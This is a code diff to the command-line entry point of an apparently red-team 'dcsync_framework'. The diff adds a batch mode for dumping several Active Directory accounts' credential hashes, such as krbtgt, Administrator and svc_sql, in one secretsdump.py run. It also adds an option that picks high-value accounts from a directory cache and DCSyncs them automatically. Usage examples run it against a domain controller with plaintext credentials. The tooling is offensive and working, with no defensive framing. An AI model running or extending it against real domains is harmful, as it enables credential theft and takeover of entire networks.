@@ -7,6 +7,10 @@ Examples:
     python -m dcsync_framework -d corp.local --dc 10.10.10.1 \\
         -u admin -p 'Pass!' --targeted -t krbtgt Administrator
 
+    # Targeted DCSync — several accounts in a single secretsdump.py run
+    python -m dcsync_framework -d corp.local --dc 10.10.10.1 \\
+        -u admin -p 'Pass!' --targeted --batch -t krbtgt Administrator svc_sql
+
     # Full domain dump
     python -m dcsync_framework -d corp.local --dc 10.10.10.1 \\
         -u admin -p 'Pass!' --full
@@ -19,12 +23,22 @@ Examples:
     export KRB5CCNAME=admin.ccache
     python -m dcsync_framework -d corp.local --dc 10.10.10.1 \\
         -u admin -k --targeted -t krbtgt
+
+    # krbtgt + Administrator, listing the cached admin and service accounts;
+    # --max-targets adds the first N of them
+    PYTHONPATH=../14-ad-enumeration python -m dcsync_framework -d corp.local \\
+        --dc 10.10.10.1 -u admin -p 'Pass!' --targeted --batch --cache --max-targets 5
 """
 
 import argparse
 
 from .core.framework import DCSyncFramework
 
+try:
+    from rt_directory_cache import DirectoryCache
+except ImportError:
+    DirectoryCache = None
+
 
 def main():
     parser = argparse.ArgumentParser(
@@ -48,21 +62,43 @@ def main():
     mode.add_argument("--analyze", help="Analyze existing dump file")
 
     parser.add_argument("-t", "--targets", nargs="+", help="Target users for targeted mode")
+    parser.add_argument(
+        "--batch", action="store_true",
+        help="Targeted mode: dump all targets in one secretsdump.py run (-usersfile)",
+    )
     parser.add_argument("--ntds", help="Path to NTDS.dit (offline mode)")
     parser.add_argument("--system", help="Path to SYSTEM hive (offline mode)")
+    parser.add_argument(
+        "--cache", nargs="?", const="", metavar="PATH",
+        help="Targeted mode without -t: list high-value accounts from the shared directory cache",
+    )
+    parser.add_argument(
+        "--max-targets", type=int, default=0, metavar="N",
+        help="With --cache: also DCSync the first N cached candidates (default: 0, list only)",
+    )
 
     args = parser.parse_args()
 
+    cache = None
+    if args.cache is not None:
+        if DirectoryCache is None:
+            parser.error("--cache needs rt_directory_cache (add 14-ad-enumeration/ to PYTHONPATH)")
+        cache = DirectoryCache(args.cache or None)
+
     framework = DCSyncFramework(
         domain=args.domain, dc_ip=args.dc, username=args.username,
         password=args.password, ntlm_hash=args.hash,
         aes_key=args.aes_key, use_kerberos=args.kerberos,
         output_dir=args.output,
+        cache=cache,
     )
 
     if args.targeted:
-        targets = args.targets or ["krbtgt", "Administrator"]
-        framework.targeted_dcsync(targets)
+        if args.targets or cache is None:
+            targets = args.targets or ["krbtgt", "Administrator"]
+            framework.targeted_dcsync(targets, batch=args.batch)
+        else:
+            framework.targeted_dcsync_high_value(batch=args.batch, max_targets=args.max_targets)
         framework.generate_report()
 
     elif args.full: